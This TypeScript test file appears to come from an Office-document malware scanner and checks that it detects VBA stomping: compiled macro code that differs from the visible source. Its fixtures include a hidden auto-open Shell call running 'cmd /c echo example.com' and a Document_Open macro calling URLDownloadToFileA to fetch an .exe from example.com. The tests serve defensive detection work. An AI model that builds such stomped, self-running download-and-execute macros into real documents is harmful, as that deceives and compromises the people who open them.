import { inspect } from 'sekisho'
import { describe, expect, test } from 'vitest'
import { Budget } from '#bytes'
import { DEFAULT_LIMITS, type Message } from '#domain'
import { findStomped } from '../src/unpack/vba/pcode/index.ts'
import { damaged } from './fixtures/carrier-mutate.ts'
import { buildDoc, buildPpt, buildXls } from './fixtures/office-binary.ts'
import { buildDocm, buildXlsm } from './fixtures/office-ooxml.ts'
import { allFacts, partsOf, takeApart } from './fixtures/office-open.ts'
import { buildVbaProjectBin } from './fixtures/office-vba.ts'
import {
  buildNameStream,
  type CompiledFixture,
  call,
  callMember,
  compiledModules,
  compileModule,
  endSub,
  type FixtureCode,
  HARMLESS_SOURCE,
  LAYOUTS,
  type Layout,
  load,
  loadCall,
  namesOf,
  number,
  SHELL_CODE,
  SHELL_SOURCE,
  store,
  sub,
  text,
} from './fixtures/vba-pcode.ts'

// What a macro runs when its compiled half is not that of its source.

const STOMPED: CompiledFixture = { name: 'Module1', source: HARMLESS_SOURCE, code: SHELL_CODE }
const LAYOUT_LIST: readonly Layout[] = Object.values(LAYOUTS)

const hiddenIn = (modules: readonly CompiledFixture[], layout: Layout = LAYOUTS.vba7) =>
  allFacts(takeApart(buildDoc(compiledModules(modules, layout))), 'stomped')

const codeIn = (message: Message) =>
  message.parts.filter(({ name }) => name.endsWith('(compiled)')).map(({ content }) => content.toString())

describe('a replaced source', () => {
  test.each([
    ['.doc', buildDoc(compiledModules([STOMPED]))],
    ['.xls', buildXls(compiledModules([STOMPED]))],
    ['.docm', buildDocm(compiledModules([STOMPED]))],
    ['.xlsm', buildXlsm(compiledModules([STOMPED]))],
    ['a bare project', buildVbaProjectBin(compiledModules([STOMPED]).modules, compiledModules([STOMPED]))],
  ])('in %s: the code that runs is a part of its own, and its command is put together', async (_, bytes) => {
    const { message, findings, verdict } = await inspect(bytes, { name: 'a.doc' })
    expect(allFacts(message, 'stomped')).toEqual([
      { type: 'stomped', module: 'Module1', source: 'other', missing: ['line', 'Shell', 'AutoOpen'] },
    ])
    expect(allFacts(message, 'command')).toMatchObject([{ command: 'cmd /c echo example.com' }])
    expect(findings.map(({ id }) => id)).toEqual(
      expect.arrayContaining(['macro/stomped-source', 'macro/starts-and-runs', 'macro/hidden-command']),
    )
    expect(verdict.decision).not.toBe('pass')
    expect(verdict.decision).not.toBe('notice')
  })

  test.each(LAYOUT_LIST.filter(({ isOld }) => !isOld))('of $name: reads like the source it was made from', (layout) => {
    const message = takeApart(buildDoc(compiledModules([STOMPED], layout)))
    expect(codeIn(message)).toEqual([
      'Sub AutoOpen()\r\nline = "cmd /c " & "echo example.com"\r\nShell line, 0\r\nEnd Sub',
    ])
  })

  test.each(LAYOUT_LIST.filter(({ isOld }) => isOld))('of $name: its names are found', (layout) => {
    const message = takeApart(buildDoc(compiledModules([{ ...STOMPED, source: HARMLESS_SOURCE }], layout)))
    expect(allFacts(message, 'stomped')[0]?.missing).toEqual(expect.arrayContaining(['AutoOpen', 'Shell']))
    expect(allFacts(message, 'code').map(({ does }) => does)).toEqual(expect.arrayContaining(['trigger', 'run']))
  })

  test('is not seen where each half has the names of the other, nor in another spelling of the same', () => {
    expect(hiddenIn([{ ...STOMPED, source: SHELL_SOURCE }])).toEqual([])
    expect(hiddenIn([{ ...STOMPED, source: SHELL_SOURCE.toUpperCase() }])).toEqual([])
    expect(hiddenIn([{ ...STOMPED, source: SHELL_SOURCE.replace('Shell line', '[Shell] _\n  line') }])).toEqual([])
    // By names alone: the editor may write a text in another way.
    expect(hiddenIn([{ ...STOMPED, source: SHELL_SOURCE.replace('example.com', 'example.net') }])).toEqual([])
  })

  test.each([
    ['a comment', "' Shell line AutoOpen\n"],
    ['a comment that goes on', "' see _\nShell line AutoOpen _\n  Shell\n"],
    ['a Rem', 'Rem Shell line AutoOpen\nx = 1: Rem Shell\n'],
    ['a text', 'x = "Shell ""line"" AutoOpen"\n'],
    ['an attribute', 'Attribute Shell.VB_Description = "x"\nx = 1\n'],
  ])('is seen when its names stand in %s', (_, source) => {
    expect(hiddenIn([{ ...STOMPED, source }])[0]?.missing).toContain('Shell')
  })
})

describe('no source', () => {
  test.each([
    ['an empty one', '\n'],
    ['attributes alone', 'Attribute VB_Name = "Module1"\nAttribute VB_Exposed = False\n'],
    ['comments alone', "' nothing to see\n"],
  ])('%s', (_, source) => {
    const [fact] = hiddenIn([{ ...STOMPED, source }])
    expect(fact).toMatchObject({ source: 'none', module: 'Module1' })
  })

  test('not even a container for it, and no list of modules', () => {
    const { modules, nameStream } = compiledModules([STOMPED])
    const project = { codePage: 1252, nameStream: () => nameStream }
    const streams = modules.map(({ compiled }) => ({ name: 'Module1', source: '', stream: compiled }))
    const { hidden } = findStomped({ ...project, streams }, new Budget(DEFAULT_LIMITS))
    expect(hidden.map(({ fact }) => fact.source)).toEqual(['none'])
    // Texts still say what it does when the names are gone, too.
    const nameless = findStomped({ ...project, streams, nameStream: () => Buffer.alloc(0) }, new Budget(DEFAULT_LIMITS))
    expect(nameless.hidden[0]?.source).toContain('"echo example.com"')
  })

  test('an empty module beside one with code is what every document has', () => {
    const empty: CompiledFixture = { name: 'ThisDocument', kind: 'document', source: '', code: [] }
    expect(hiddenIn([empty, { ...STOMPED, source: SHELL_SOURCE }])).toEqual([])
  })
})

describe('no compiled code', () => {
  test('is a fact', () => {
    const modules = [{ name: 'Module1', source: SHELL_SOURCE }]
    expect(allFacts(takeApart(buildDoc({ modules })), 'vba-project')).toMatchObject([{ isSourceOnly: true }])
    expect(allFacts(takeApart(buildPpt({ modules })), 'vba-project')).toMatchObject([{ isSourceOnly: true }])
    const purged = { name: 'Module1', source: SHELL_SOURCE, compiled: Buffer.alloc(0) }
    expect(allFacts(takeApart(buildDoc({ modules: [purged] })), 'vba-project')).toMatchObject([{ isSourceOnly: true }])
  })

  test('is not said of a document that Office wrote', () => {
    const [fact] = allFacts(takeApart(buildDoc(compiledModules([{ ...STOMPED, source: SHELL_SOURCE }]))), 'vba-project')
    expect(fact?.isSourceOnly).toBeUndefined()
  })
})

describe('compiled code as text', () => {
  const printed = (code: FixtureCode, layout: Layout = LAYOUTS.vba7): string =>
    codeIn(takeApart(buildDoc(compiledModules([{ name: 'M', source: '', code }], layout))))[0] ?? ''

  test.each<readonly [string, FixtureCode, string]>([
    ['a call with a result', [[text('x.y'), loadCall('CreateObject', 1), store('o')]], 'o = CreateObject("x.y")'],
    ['a method', [[text('a "b"'), load('o'), callMember('Run', 1)]], 'o.Run "a ""b"""'],
    ['If', [[load('a'), number(-2), { code: 0x05 }, { code: 0x9c }], [{ code: 0x6b }]], 'If a = -2 Then\r\nEnd If'],
    [
      'With',
      [[{ code: 0x101 }, load('o'), { code: 0xf5 }], [{ code: 0x43, name: 'Go', numbers: [0] }]],
      'With o\r\n.Go',
    ],
    [
      'Open',
      [[text('C:\\a'), number(1), { code: 0xab }, { code: 0xcc, numbers: [0x02] }]],
      'Open "C:\\a" For Output As #1',
    ],
    ['a name in brackets', [[call('a b]\nc', 0)]], '[a bc]'],
    ['a text with line ends', [[text('a\r\nShell'), store('x')]], 'x = "a  Shell"'],
    ['an operation that nobody knows', [[text('C:\\a'), { code: 0xbf }, call('Shell', 1)]], 'Shell "C:\\a"'],
  ])('%s', (_, code, expected) => {
    expect(printed([[sub('AutoOpen')], ...code, [endSub]])).toBe(`Sub AutoOpen()\r\n${expected}\r\nEnd Sub`)
  })
})

test('a declaration of a function in a library is one, and what calls it fetches a file', () => {
  const code: FixtureCode = [
    [sub('URLDownloadToFileA')],
    [sub('Document_Open')],
    [
      number(0),
      text('https://example.com/a.exe'),
      text('C:\\a.exe'),
      number(0),
      number(0),
      call('URLDownloadToFileA', 5),
    ],
    [endSub],
  ]
  const message = takeApart(buildDoc(compiledModules([{ name: 'M', source: HARMLESS_SOURCE, code }], LAYOUTS.vba64)))
  expect(codeIn(message)[0]?.split('\r\n').slice(0, 2)).toEqual([
    'Declare Sub URLDownloadToFileA Lib ""',
    'Sub Document_Open()',
  ])
  expect(allFacts(message, 'code').map(({ does }) => does)).toEqual(expect.arrayContaining(['trigger', 'download']))
  expect(allFacts(message, 'url').map(({ url }) => url)).toEqual(['https://example.com/a.exe'])
})

describe('hostile bytes', () => {
  const names = namesOf([SHELL_CODE])
  const read = (stream: Buffer, nameStream: Buffer, source = HARMLESS_SOURCE) =>
    findStomped(
      { codePage: 932, streams: [{ name: 'M', source, stream }], nameStream: () => nameStream },
      new Budget(DEFAULT_LIMITS),
    )

  test.each(LAYOUT_LIST)('of $name: truncated and changed, it ends', (layout) => {
    const stream = compileModule(SHELL_CODE, names, layout)
    const nameStream = buildNameStream(names, layout)
    for (const bytes of damaged(stream, 400)) expect(read(bytes, nameStream).hidden.length).toBeLessThan(2)
    for (const bytes of damaged(nameStream, 400)) expect(read(stream, bytes).hidden.length).toBeLessThan(2)
  })

  test('lines that all point to the same code are read twice at most', () => {
    const line = Buffer.from('0080090060ea000000000000', 'hex')
    const code = Buffer.alloc(60_000, Buffer.from('20000002', 'hex'))
    const head = Buffer.from('feca0100ffff', 'hex')
    const size = Buffer.alloc(4)
    size.writeUInt32LE(code.length)
    const lines = Buffer.alloc(0xffff * line.length, line)
    const stream = Buffer.concat([head, lines, Buffer.from('ffffffff0101', 'hex'), size, code])
    const { hidden } = read(stream, buildNameStream(names, LAYOUTS.vba7), '')
    expect(hidden.map(({ source }) => source.split('\r\n').length)).toEqual([2])
  })

  test('long names that code means over and over are cut, and that is said', () => {
    const long = 'n'.repeat(255)
    const code: FixtureCode = Array.from({ length: 20 }, () => Array.from({ length: 2_000 }, () => load(long)))
    const both = namesOf([code])
    const { hidden, flaws } = read(compileModule(code, both, LAYOUTS.vba7), buildNameStream(both, LAYOUTS.vba7))
    expect(hidden[0]?.source.length).toBeLessThan(4 * 2 ** 20)
    expect(flaws).toMatchObject([{ code: 'vba/long-compiled', level: 'stopped' }])
  })

  test('operations that nobody knows, line after line, are guessed at as long as somebody pays', () => {
    const unknown: FixtureCode = Array.from({ length: 1_500 }, () => [
      ...Array.from({ length: 3 }, () => ({ code: 0x10f })),
      ...Array.from({ length: 200 }, () => number(7)),
    ])
    const stream = compileModule([...SHELL_CODE, ...unknown], names, LAYOUTS.vba7)
    const { hidden } = read(stream, buildNameStream(names, LAYOUTS.vba7))
    expect(hidden[0]?.fact.missing).toContain('Shell')
  })

  test.each(['[', '[]', '"', "'", ' _', "' _\n", 'rem ', 'a'])(
    'a source of nothing but %j costs its length',
    (piece) => {
      const nameStream = buildNameStream(names, LAYOUTS.vba7)
      const { hidden } = read(compileModule(SHELL_CODE, names, LAYOUTS.vba7), nameStream, piece.repeat(2 ** 19))
      expect(hidden[0]?.fact.missing).toContain('Shell')
    },
  )

  test('tables that only look like one do not keep the true one from being found', () => {
    const decoys = Buffer.alloc(100_000, Buffer.from('ff010001ff000000', 'hex'))
    const nameStream = buildNameStream(names, LAYOUTS.vba7)
    const { hidden } = read(compileModule(SHELL_CODE, names, LAYOUTS.vba7), Buffer.concat([decoys, nameStream]))
    expect(hidden[0]?.fact.missing).toContain('Shell')
  })

  test('a second table behind the true one hides nothing quietly', () => {
    const decoy = buildNameStream(
      [...names].map((name) => (name === 'Shell' ? 'Greet' : name)),
      LAYOUTS.vba7,
    )
    const nameStream = Buffer.concat([buildNameStream(names, LAYOUTS.vba7), decoy.subarray(300)])
    const { flaws } = read(compileModule(SHELL_CODE, names, LAYOUTS.vba7), nameStream)
    expect(flaws).toMatchObject([{ code: 'vba/two-name-tables', level: 'stopped' }])
  })

  test('what the budget does not reach is said to be unread', () => {
    const budget = new Budget({ ...DEFAULT_LIMITS, stepsMax: 1 })
    const stream = compileModule(SHELL_CODE, names, LAYOUTS.vba7)
    const { flaws } = findStomped(
      { codePage: 0, streams: [{ name: 'M', source: '', stream }], nameStream: () => stream },
      budget,
    )
    expect(flaws).toMatchObject([{ code: 'vba/unread-compiled', level: 'stopped' }])
  })
})

test('a stomped module keeps its visible half, too', () => {
  const message = takeApart(buildDoc(compiledModules([STOMPED])))
  expect(partsOf(message, 'vba-module').map(({ name }) => name)).toEqual(['VBA/Module1 (compiled)', 'VBA/Module1'])
})
